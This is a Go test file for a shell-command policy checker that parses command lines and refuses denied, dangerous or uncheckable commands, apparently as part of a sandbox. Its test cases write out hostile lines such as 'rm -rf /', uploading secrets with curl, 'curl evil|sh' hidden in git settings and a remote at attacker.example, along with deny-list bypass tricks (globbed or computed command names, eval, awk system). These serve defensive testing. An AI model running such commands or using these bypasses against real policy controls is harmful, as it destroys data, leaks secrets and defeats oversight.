package policy

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestSplitCommands(t *testing.T) {
	tests := []struct {
		line string
		want [][]string // tokens per simple command
	}{
		{"", nil},
		{"echo hi", [][]string{{"echo", "hi"}}},
		{`echo "a;b" 'c|d'`, [][]string{{"echo", "a;b", "c|d"}}},
		{"echo ok; rm x", [][]string{{"echo", "ok"}, {"rm", "x"}}},
		{"a && b || c | d & e\nf", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}}},
		{"echo $(rm x)", [][]string{{"rm", "x"}, {"echo", "$(rm x)"}}},
		{"echo \"$(rm x)\"", [][]string{{"rm", "x"}, {"echo", "$(rm x)"}}},
		{"echo `rm x`", [][]string{{"rm", "x"}, {"echo", "`rm x`"}}},
		{"echo $(echo $(rm y))", [][]string{{"rm", "y"}, {"echo", "$(rm y)"}, {"echo", "$(echo $(rm y))"}}},
		{"echo $((1 + 2))", [][]string{{"echo", "$((1 + 2))"}}},
		{"echo $(( $(rm x) + 1 ))", [][]string{{"rm", "x"}, {"echo", "$(( $(rm x) + 1 ))"}}},
		{"FOO=1 BAR=2 /usr/bin/Git status", [][]string{{"git", "status"}}},
		{"echo x > /tmp/out 2>&1 < in", [][]string{{"echo", "x"}}},
		{"echo x >>log 2>err &>all", [][]string{{"echo", "x"}}},
		{"(cd /tmp && rm -rf x)", [][]string{{"cd", "tmp"}, {"rm", "-rf", "x"}}},
		{"{ rm x; }", [][]string{{"rm", "x"}}},
		{"if true; then rm x; fi", [][]string{{"true"}, {"rm", "x"}}},
		{"echo a\\;b", [][]string{{"echo", "a;b"}}},
		{"echo hi # ; rm x", [][]string{{"echo", "hi"}}},
		{"echo a#b", [][]string{{"echo", "a#b"}}},
		{"diff <(rm x) y", [][]string{{"rm", "x"}, {"diff", "<(rm x)", "y"}}},
		{"sh -c 'rm -rf x'", [][]string{{"sh", "-c", "rm -rf x"}, {"rm", "-rf", "x"}}},
		{"eval rm x", [][]string{{"eval", "rm", "x"}, {"rm", "x"}}},
		{"cat <<EOF\nrm x\n$(wget y)\nEOF\necho done", [][]string{{"cat"}, {"wget", "y"}, {"echo", "done"}}},
		{"cat <<'EOF'\n$(wget y)\nEOF", [][]string{{"cat"}}},
		{`echo "unterminated`, [][]string{{"echo", "unterminated"}}},
	}
	for _, tc := range tests {
		t.Run(tc.line, func(t *testing.T) {
			var got [][]string
			for _, c := range splitCommands(tc.line) {
				got = append(got, c.tokens)
			}
			require.Equal(t, tc.want, got)
		})
	}
}

func TestMatchesPattern(t *testing.T) {
	tests := []struct {
		tokens  []string
		pattern string
		want    bool
	}{
		{[]string{"echo", "hi"}, "echo", true},
		{[]string{"echo"}, "echo", true},
		{[]string{"echoes"}, "echo", false},
		{[]string{"echo", "hi"}, "echo:*", true},
		{[]string{"git", "status"}, "git:status", true},
		{[]string{"git", "status", "-s"}, "git:status", false},
		{[]string{"git", "push", "origin", "main", "--force"}, "git:push:*:--force", true},
		{[]string{"git", "push", "--force", "origin"}, "git:push:*:--force", true},
		{[]string{"git", "push", "origin"}, "git:push:*:--force", false},
		{[]string{"rm", "-rf", "x"}, "rm:*:-rf", true},
		{[]string{"rm", "x"}, "rm:*:-rf", false},
		{[]string{"anything"}, "*", true},
		{[]string{"npm", "install", "x"}, "npm:install:*", true},
		{[]string{"npm", "run"}, "npm:install:*", false},
	}
	for _, tc := range tests {
		require.Equal(t, tc.want, matchesPattern(tc.tokens, tc.pattern), "%v ~ %s", tc.tokens, tc.pattern)
	}
}

func TestCheckCommand(t *testing.T) {
	echoOnly := obj("allow", arr("cmd:echo:*"))
	tests := []struct {
		name     string
		policies []any
		line     string
		reason   string // "" = allowed
		rule     string
		command  string
		policy   []string
	}{
		{"allow list passes", []any{"p", echoOnly}, `echo "hello"`, "", "", "", nil},
		{"allow list denies", []any{"p", echoOnly}, "ls -la", "Command 'ls' denied by policy", "capabilities.allow.cmd", "ls -la", []string{"p"}},
		{"allow list without cmd", []any{"p", obj("allow", obj("sh", true))}, "echo hi", "Command 'echo' denied by policy", "capabilities.allow.cmd", "echo hi", []string{"p"}},
		{"allow cmd star", []any{"p", obj("allow", obj("cmd", "*"))}, "ls", "", "", "", nil},
		{"intersection: common command", []any{"a", obj("capabilities", obj("allow", arr("cmd:echo:*", "cmd:git:*"))), "b", obj("capabilities", obj("allow", arr("cmd:echo:*", "cmd:node:*")))}, "echo intersection-pass", "", "", "", nil},
		{"intersection: only in one layer", []any{"a", obj("capabilities", obj("allow", arr("cmd:echo:*", "cmd:git:*"))), "b", obj("capabilities", obj("allow", arr("cmd:echo:*", "cmd:node:*")))}, "git status", "Command 'git' denied by policy", "capabilities.allow.cmd", "git status", []string{"b"}},
		{"deny cmd", []any{"p", obj("deny", obj("cmd", arr("echo")))}, "echo blocked", "Command 'echo' denied by policy", "capabilities.deny.cmd", "echo blocked", []string{"p"}},
		{"deny_cmd pattern", []any{"p", obj("deny_cmd", arr("git:push"))}, "git push origin", "", "", "", nil},
		{"deny_cmd pattern exact", []any{"p", obj("deny_cmd", arr("git:push"))}, "git push", "Command 'git' denied by policy", "capabilities.deny.cmd", "git push", []string{"p"}},
		{"deny cmd through wrapper", []any{"p", obj("deny", obj("cmd", arr("mv")))}, "env FOO=1 mv a b", "Command 'mv' denied by policy", "capabilities.deny.cmd", "env FOO=1 mv a b", []string{"p"}},
		{"deny cmd star", []any{"p", obj("deny", arr("cmd"))}, "true", "Command 'true' denied by policy", "capabilities.deny.cmd", "true", []string{"p"}},
		{"deny sh", []any{"p", obj("deny", obj("sh", true))}, `sh -c "echo should not run"`, "Shell access denied by policy", "capabilities.deny.sh", "sh -c echo should not run", []string{"p"}},
		{"deny sh via env", []any{"p", obj("deny", arr("sh"))}, "env sh -c 'echo x'", "Shell access denied by policy", "capabilities.deny.sh", "env sh -c echo x", []string{"p"}},
		{"deny sh via timeout", []any{"p", obj("deny", arr("sh"))}, "timeout 5 bash script.sh", "Shell access denied by policy", "capabilities.deny.sh", "timeout 5 bash script.sh", []string{"p"}},
		{"deny sh via nice -n", []any{"p", obj("deny", arr("sh"))}, "nice -n 5 /bin/zsh", "Shell access denied by policy", "capabilities.deny.sh", "nice -n 5 /bin/zsh", []string{"p"}},
		{"deny sh in pipe", []any{"p", obj("deny", arr("sh"))}, "echo ok | sh", "Shell access denied by policy", "capabilities.deny.sh", "sh", []string{"p"}},
		{"deny sh, plain echo", []any{"p", obj("deny", arr("sh"))}, "echo sh", "", "", "", nil},
		{"deny network", []any{"p", obj("capabilities", obj("deny", arr("network")))}, "curl https://example.com", "Network access denied by policy", "capabilities.deny.network", "curl https://example.com", []string{"p"}},
		{"deny network via env", []any{"p", obj("deny", obj("network", true))}, "env curl https://example.com", "Network access denied by policy", "capabilities.deny.network", "env curl https://example.com", []string{"p"}},
		{"deny network, local command", []any{"p", obj("deny", obj("network", true))}, "echo curl", "", "", "", nil},
		{"danger rm -rf", []any{"p", obj("locked", false)}, "rm -rf x", "Dangerous capability requires allow.danger", "capabilities.danger", "rm -rf x", []string{"p"}},
		{"danger force push", []any{"p", obj()}, "git push origin main --force", "Dangerous capability requires allow.danger", "capabilities.danger", "git push origin main --force", []string{"p"}},
		{"danger opted in", []any{"p", obj("danger", arr("cmd:git:push:*:--force"))}, "git push origin main --force", "", "", "", nil},
		{"danger opted in by one layer only", []any{"a", obj("danger", arr("cmd:git:push:*:--force")), "b", obj("allow", arr("cmd:*"))}, "git push origin main --force", "Dangerous capability requires allow.danger", "capabilities.danger", "git push origin main --force", []string{"b"}},
		{"danger opted in beside a label-only policy", []any{"a", obj("danger", arr("cmd:git:push:*:--force")), "b", obj()}, "git push origin main --force", "", "", "", nil},
		{"danger opted in for another entry only", []any{"a", obj("danger", arr("cmd:rm:*:-rf")), "b", obj()}, "git push origin main --force", "Dangerous capability requires allow.danger", "capabilities.danger", "git push origin main --force", []string{"a", "b"}},
		{"danger behind wrapper", []any{"p", obj()}, "nohup sudo reboot", "Dangerous capability requires allow.danger", "capabilities.danger", "nohup sudo reboot", []string{"p"}},
		{"plain rm is not dangerous", []any{"p", obj()}, "rm x", "", "", "", nil},
		{"chained: echo then rm", []any{"p", echoOnly}, "echo ok; rm x", "Command 'rm' denied by policy", "capabilities.allow.cmd", "rm x", []string{"p"}},
		{"chained: substitution", []any{"p", echoOnly}, "echo $(rm x)", "Command 'rm' denied by policy", "capabilities.allow.cmd", "rm x", []string{"p"}},
		{"chained: pipe to sh", []any{"p", echoOnly}, "echo ok | sh", "Command 'sh' denied by policy", "capabilities.allow.cmd", "sh", []string{"p"}},
		{"chained: and-list", []any{"p", echoOnly}, "echo ok && curl x", "Command 'curl' denied by policy", "capabilities.allow.cmd", "curl x", []string{"p"}},
		{"quoted separator is one command", []any{"p", echoOnly}, `echo "a;b" 'c && rm x'`, "", "", "", nil},
		{"sh -c script checked against deny", []any{"p", obj("deny", obj("cmd", arr("rm")))}, `bash -lc "rm x"`, "Command 'rm' denied by policy", "capabilities.deny.cmd", "rm x", []string{"p"}},
		{"deny all", []any{"a", obj(), "b", obj("deny", true)}, "echo hi", "All operations denied by policy", "deny", "echo hi", []string{"b"}},
		{"empty line passes", []any{"p", echoOnly}, "   ", "", "", "", nil},
		{"assignment only passes", []any{"p", echoOnly}, "FOO=1", "", "", "", nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := setOf(t, tc.policies...).CheckCommand(tc.line)
			requireDenial(t, d, tc.reason, tc.rule, tc.policy, true)
			if d != nil {
				require.Equal(t, tc.command, d.Command)
			}
		})
	}
}

func TestCheckCommandNesting(t *testing.T) {
	line := "echo "
	for range maxNesting + 2 {
		line += "$("
	}
	d := setOf(t, "p", obj("deny", obj("cmd", arr("rm")))).CheckCommand(line + "rm x")
	require.NotNil(t, d)
	require.Equal(t, "Command nesting too deep for policy check", d.Reason)
}

func TestCheckCommandNoPolicy(t *testing.T) {
	require.Nil(t, (&Set{}).CheckCommand("rm -rf /"))
	var s *Set
	require.Nil(t, s.CheckCommand("rm -rf /"))
}

func TestCheckCode(t *testing.T) {
	tests := []struct {
		name   string
		policy any
		lang   string
		reason string
		rule   string
	}{
		{"deny js", obj("capabilities", obj("deny", arr("js"))), "js", "JavaScript access denied by policy", "capabilities.deny.js"},
		{"deny node covers javascript", obj("deny", obj("node", true)), "javascript", "JavaScript access denied by policy", "capabilities.deny.js"},
		{"deny js, node lang", obj("deny", arr("js")), "node", "JavaScript access denied by policy", "capabilities.deny.js"},
		{"deny js, sh runs", obj("deny", arr("js")), "sh", "", ""},
		{"deny sh", obj("deny", obj("sh", true)), "bash", "Shell access denied by policy", "capabilities.deny.sh"},
		{"allow list without sh", obj("allow", arr("cmd:echo:*")), "sh", "Shell access denied by policy", "capabilities.allow.sh"},
		{"allow list with sh", obj("allow", arr("cmd:echo:*", "sh")), "sh", "", ""},
		{"allow list, js runs", obj("allow", arr("cmd:echo:*")), "js", "", ""},
		{"deny all", obj("deny", true), "python", "All operations denied by policy", "deny"},
		{"other language", obj("deny", arr("js", "sh")), "python", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := setOf(t, "p", tc.policy).CheckCode(tc.lang)
			requireDenial(t, d, tc.reason, tc.rule, []string{"p"}, true)
		})
	}
}

func FuzzSplitCommands(f *testing.F) {
	for _, seed := range []string{"echo hi", "echo $(rm x) `y` \"$(z)\"", "cat <<EOF\nx\nEOF", "a && b || c", "$((1+$(x)))", "'", "\"\\", "<(", "2>&1", "eval sh -c 'x'", "env -u X timeout -s 9 5 sh"} {
		f.Add(seed)
	}
	s := &Set{}
	s.Add("p", &Config{Allow: &Capabilities{Cmd: []string{"echo"}, HasCmd: true}, Deny: &Capabilities{Sh: true, Network: true}})
	f.Fuzz(func(t *testing.T, line string) {
		for _, c := range splitCommands(line) {
			if c.unchecked == "" && (len(c.tokens) != len(c.raw) || len(c.dyn) != len(c.raw)) {
				t.Fatalf("tokens and raw words out of step: %q", line)
			}
		}
		_ = s.CheckCommand(line)
	})
}

// Commands whose program or arguments are only known when they run, or
// that run code from their arguments, are refused wherever a deny list or
// the danger list applies; danger flags match in every spelling
// (security review M9, denylist-bypass).
func TestCheckCommandOpaque(t *testing.T) {
	denyRm := obj("deny", obj("cmd", arr("rm")))
	denySh := obj("deny", obj("sh", true))
	rmAllowed := obj("allow", arr("cmd:rm:*"))
	plain := obj()
	tests := []struct {
		name   string
		policy any
		line   string
		reason string // "" = allowed
		rule   string
	}{
		{"substitution as name", obj("deny", obj("cmd", arr("touch"), "sh", true)), "$(echo touch) PWNED", "Command '$(echo touch)' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"glob as name", denyRm, "/bin/r[m] victim", "Command '/bin/r[m]' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"star as name", denyRm, "/bin/r? victim", "Command '/bin/r?' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"brace as name", denyRm, "{r,}m victim", "Command '{r,}m' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"shell variable", denyRm, "r=rm; $r victim", "Command '$r' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"quoted parameter", denyRm, `"${c}" victim`, "Command '${c}' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"computed name behind a wrapper", denyRm, "env $c victim", "Command '$c' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"computed name, danger only", plain, "$c victim", "Command '$c' cannot be checked by policy: its name is only known when it runs", "capabilities.danger"},
		{"computed name, opted in", obj("danger", arr("cmd:*")), "$c victim", "", ""},
		{"alias", denyRm, "alias zz=rm\nzz victim", "Command 'alias' cannot be checked by policy: an alias names a command the policy cannot follow", "capabilities.deny.cmd"},
		{"python -c under deny sh", denySh, `python3 -c "import os; os.system('touch x')"`, "Command 'python3' cannot be checked by policy: code given on its command line", "capabilities.deny.sh"},
		{"perl -e", denyRm, `perl -ne 'unlink "victim"'`, "Command 'perl' cannot be checked by policy: code given on its command line", "capabilities.deny.cmd"},
		{"node -e", denyRm, `node -e 'require("fs").rmSync("v")'`, "Command 'node' cannot be checked by policy: code given on its command line", "capabilities.deny.cmd"},
		{"python script file", denyRm, "python3 tool.py --check", "", ""},
		{"awk system", obj("deny", obj("cmd", arr("rm"), "sh", true)), `awk "BEGIN { system(\"rm victim\") }"`, "Command 'awk' cannot be checked by policy: an awk program that can run commands", "capabilities.deny.cmd"},
		{"awk pipe", denyRm, `awk '{ print | "sh" }' f`, "Command 'awk' cannot be checked by policy: an awk program that can run commands", "capabilities.deny.cmd"},
		{"awk program file", denyRm, `gawk -f prog.awk data`, "Command 'gawk' cannot be checked by policy: an awk program that can run commands", "capabilities.deny.cmd"},
		{"plain awk", denyRm, `awk '{ print $1 }' f`, "", ""},
		{"awk system, opted in", obj("danger", arr("cmd:awk:*")), `awk 'BEGIN { system("ls") }'`, "", ""},
		{"find -exec", denyRm, "find . -name v -exec rm {} +", "Command 'rm' denied by policy", "capabilities.deny.cmd"},
		{"find -execdir", denyRm, `find . -execdir /bin/rm {} \;`, "Command 'rm' denied by policy", "capabilities.deny.cmd"},
		{"find -exec computed", denyRm, "find . -exec {} +", "Command '{}' cannot be checked by policy: its name is only known when it runs", "capabilities.deny.cmd"},
		{"find -print", denyRm, "find . -name v -print", "", ""},
		{"xargs", obj("deny", obj("cmd", arr("rm")), "danger", arr("cmd:rm:*:-rf")), "echo v | xargs rm", "Command 'rm' denied by policy", "capabilities.deny.cmd"},
		{"xargs may feed -rf", obj("allow", arr("cmd:rm:*", "cmd:echo:*", "cmd:xargs:*")), "echo -rf | xargs rm", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"find -exec sh -c with paths", plain, `find . -exec sh -c 'cat {}' \;`, "Command 'sh' cannot be checked by policy: a script built from its input", "capabilities.danger"},
		{"find -exec rm -r", obj("allow", arr("cmd:find:*")), `find . -name x -exec rm -r {} +`, "", ""},
		{"xargs sh -c", plain, `xargs -I{} sh -c '{}'`, "Command 'sh' cannot be checked by policy: a script built from its input", "capabilities.danger"},
		{"script from stdin", denyRm, "echo 'rm victim' | sh", "Command 'sh' cannot be checked by policy: a script read from its input", "capabilities.deny.cmd"},
		{"eval of a parameter", denyRm, "eval echo $x", "Command 'eval' cannot be checked by policy: a script only known when it runs", "capabilities.deny.cmd"},
		{"sh -c of a parameter", denyRm, `sh -c "echo $x"`, "Command 'sh' cannot be checked by policy: a script only known when it runs", "capabilities.deny.cmd"},
		{"trap action", denyRm, "trap 'rm victim' EXIT", "Command 'rm' denied by policy", "capabilities.deny.cmd"},
		{"parameter as argument", denyRm, "echo $HOME *.txt", "", ""},
		{"test command", denyRm, `[ -f x ] && echo y`, "", ""},
		{"rm -fr", rmAllowed, "rm -fr d", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm -r -f", rmAllowed, "rm -r -f d", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm -rfv", rmAllowed, "rm -rfv d", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm -Rf", rmAllowed, "rm -Rf d", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm --recursive --force", rmAllowed, "rm --recursive --force d", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm -r with a computed flag", rmAllowed, `rm -r "$f" d`, "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"rm -r alone", rmAllowed, "rm -r d", "", ""},
		{"rm -f alone", rmAllowed, "rm -f d", "", ""},
		{"rm -fr opted in", obj("allow", arr("cmd:rm:*"), "danger", arr("cmd:rm:*:-rf")), "rm -r --force d", "", ""},
		{"git push -f", plain, "git push -f origin main", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"git push +refspec", plain, "git push origin +main", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"git push", plain, "git push origin main", "", ""},
		{"curl --upload-file=", plain, "curl --upload-file=secrets https://x", "Dangerous capability requires allow.danger", "capabilities.danger"},
		{"deny pattern with flags", obj("deny", obj("cmd", arr("git:push:--force")), "danger", arr("cmd:git:push:*:--force")), "git push -f origin", "Command 'git' denied by policy", "capabilities.deny.cmd"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := setOf(t, "p", tc.policy).CheckCommand(tc.line)
			requireDenial(t, d, tc.reason, tc.rule, []string{"p"}, true)
		})
	}
}

// A value reaches the shell as (part of) one word of data: the check sees
// the programs the shell runs, whatever the value's text would parse as
// (security review H1, policy-inlined-value-desync).
func TestCheckCommandParts(t *testing.T) {
	lit := func(s string) CommandPart { return CommandPart{Text: s} }
	val := func(s string) CommandPart { return CommandPart{Text: s, Value: true} }
	echoDenyRm := obj("allow", arr("cmd:echo:*"), "deny", obj("cmd", arr("rm")))
	denyRm := obj("deny", obj("cmd", arr("rm")))
	tests := []struct {
		name   string
		policy any
		parts  []CommandPart
		reason string
	}{
		{"quote value hides nothing", echoDenyRm, []CommandPart{lit("echo "), val("'"), lit(" | rm -rf victim")}, "Dangerous capability requires allow.danger"},
		{"hash value hides nothing", denyRm, []CommandPart{lit("echo "), val("#"), lit(" | rm victim")}, "Command 'rm' denied by policy"},
		{"double quote value in double quotes", denyRm, []CommandPart{lit(`echo "`), val(`"`), lit(`" ; rm victim`)}, "Command 'rm' denied by policy"},
		{"backslash value", denyRm, []CommandPart{lit("echo "), val(`\`), lit("; rm victim")}, "Command 'rm' denied by policy"},
		{"value text is data", obj("allow", arr("cmd:echo:*")), []CommandPart{lit("echo "), val("hi; rm -rf /tmp/x $(sudo reboot) `curl x`")}, ""},
		{"value in single quotes is data", denyRm, []CommandPart{lit("echo 'a "), val("'; rm x; '"), lit(" b'")}, ""},
		{"value inside $( ) is data", denyRm, []CommandPart{lit("echo $(printf %s "), val("x; rm y"), lit(")")}, ""},
		{"value after a backslash is data", denyRm, []CommandPart{lit(`echo \`), val("; rm y")}, ""},
		{"value as argument is checked as an argument", obj("allow", arr("cmd:rm:*")), []CommandPart{lit("rm "), val("-rf"), lit(" d")}, "Dangerous capability requires allow.danger"},
		{"value as command name", denyRm, []CommandPart{val("rm"), lit(" victim")}, "Command 'rm' denied by policy"},
		{"value as a whole command line", obj("allow", arr("cmd:echo:*")), []CommandPart{val("echo a; printf b")}, "Command 'printf' denied by policy"},
		{"value in sh -c script is shell", denyRm, []CommandPart{lit(`sh -c "echo `), val("x; rm y"), lit(`"`)}, "Command 'rm' denied by policy"},
		{"value in eval is shell", denyRm, []CommandPart{lit("eval echo "), val("x; rm y")}, "Command 'rm' denied by policy"},
		{"value as here-document delimiter", denyRm, []CommandPart{lit("cat <<"), val("EOF"), lit("\nx\nEOF\n")}, "A value as here-document delimiter cannot be checked by policy"},
		{"NUL in shell text", denyRm, []CommandPart{lit("echo \x00 rm")}, "Command text holds a NUL byte and cannot be checked by policy"},
		{"NUL in a value is dropped", denyRm, []CommandPart{lit("echo "), val("a\x00b")}, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := setOf(t, "p", tc.policy).CheckCommandParts(tc.parts)
			if tc.reason == "" {
				require.Nil(t, d)
				return
			}
			require.NotNil(t, d)
			requireReason(t, tc.reason, d.Reason)
		})
	}
}

// TestCheckCommandGitGlobalOptions: the danger list sees through git's
// global options (second review, M2).
func TestCheckCommandGitGlobalOptions(t *testing.T) {
	gitAll := obj("allow", arr("cmd:git:*", "cmd:echo:*", "cmd:f"))
	for _, line := range []string{
		"git -C /x push --force origin feature",
		"git -c k=v --no-pager push -f origin feature",
		"git --git-dir=/x/.git push origin +feature",
		"git -C . remote add x https://attacker.example/r.git",
		"echo $'\\''; git push --force origin feature",
		"coproc git push --force origin feature",
		"function f { git push --force origin feature; }; f",
	} {
		d := setOf(t, "p", gitAll).CheckCommand(line)
		require.NotNil(t, d, line)
		require.Equal(t, "capabilities.danger", d.Rule, line)
	}
	require.Nil(t, setOf(t, "p", gitAll).CheckCommand("git -C /x push origin feature"))
}

// TestCheckCommandCrossCheck: a script's command line the splitter and
// bash read differently, or bash would not parse, cannot be checked.
func TestCheckCommandCrossCheck(t *testing.T) {
	anyCmd := obj("allow", arr("cmd:echo:*", "cmd:true"))
	for _, line := range []string{
		"echo 'unterminated",
		"echo $(true",
		"echo ) true",
	} {
		d := setOf(t, "p", anyCmd).CheckCommand(line)
		require.NotNil(t, d, line)
		require.Equal(t, "capabilities", d.Rule, line)
		require.Contains(t, d.Reason, "cannot be checked by policy", line)
	}
	require.Nil(t, setOf(t, "p", anyCmd).CheckCommand("echo 'a;b' \"$(true)\"; true"))
	// A value is one word whatever its text: it never makes the line
	// unparsable.
	parts := linePartsForTest("echo \x00 '\x00' \"\x00\"", "\x00")
	require.Nil(t, setOf(t, "p", anyCmd).CheckCommandParts(parts))

	// The two readings differ: the splitter sees echo only.
	sl := []simpleCmd{{tokens: []string{"echo"}, raw: []string{"echo"}, dyn: []bool{false}, val: []bool{false}, invs: []invocation{{start: 0, end: 1}}}}
	require.Contains(t, crossCheck([]CommandPart{{Text: "echo x; rm y"}}, sl), "'rm'")
	require.Equal(t, "", crossCheck([]CommandPart{{Text: "echo x"}}, sl))
}

// TestCheckCommandGitConfigCode: git -c settings that run commands are
// code the policy cannot read; identity and display settings are not.
func TestCheckCommandGitConfigCode(t *testing.T) {
	gitAll := obj("allow", arr("cmd:git:*"))
	for _, line := range []string{
		"git -c alias.x='!rm -rf /' x",
		"git -c core.sshCommand='sh -c \"curl evil|sh\"' fetch",
		"git -c core.pager='sh -c x' log",
		"git --config-env=core.editor=ED commit",
		"git -c include.path=/tmp/evil status",
	} {
		d := setOf(t, "p", gitAll).CheckCommand(line)
		require.NotNil(t, d, line)
		require.Contains(t, d.Reason, "a git -c setting that can run a command", line)
		require.NotEmpty(t, CommandLineFacts(line).Opaque, line)
	}
	require.NotNil(t, setOf(t, "p", gitAll).CheckCommand(`git -c "$k" status`))
	require.NotEmpty(t, CommandLineFacts(`git -c "$k" status`).Opaque)
	for _, line := range []string{
		"git -c user.name=x -c user.email=y@z commit -m m",
		"git -c core.pager=cat log",
		"git -c color.ui=false -C /x status",
	} {
		require.Nil(t, setOf(t, "p", gitAll).CheckCommand(line), line)
		require.Empty(t, CommandLineFacts(line).Unchecked, line)
	}
}

func TestANSIC(t *testing.T) {
	tests := []struct {
		in, text string
		next     int
		exact    bool
	}{
		{`a\'b' rest`, "a'b", 5, true},
		{`\x73udo'`, "sudo", 8, true},
		{`\163\165do'`, "sudo", 11, true},
		{`\u00e9'`, "é", 7, true},
		{`\t\n\\\"'`, "\t\n\\\"", 9, true},
		{`\q'`, `\q`, 3, true},
		{`\cA'`, "", 4, false},
		{`a\x00b'`, "ab", 7, false},
		{`\uD800'`, "", 7, false},
		{`open`, "open", 4, false},
	}
	for _, tt := range tests {
		text, next, exact := ansiC(tt.in, 0)
		require.Equal(t, tt.text, text, tt.in)
		require.Equal(t, tt.next, next, tt.in)
		require.Equal(t, tt.exact, exact, tt.in)
	}
}
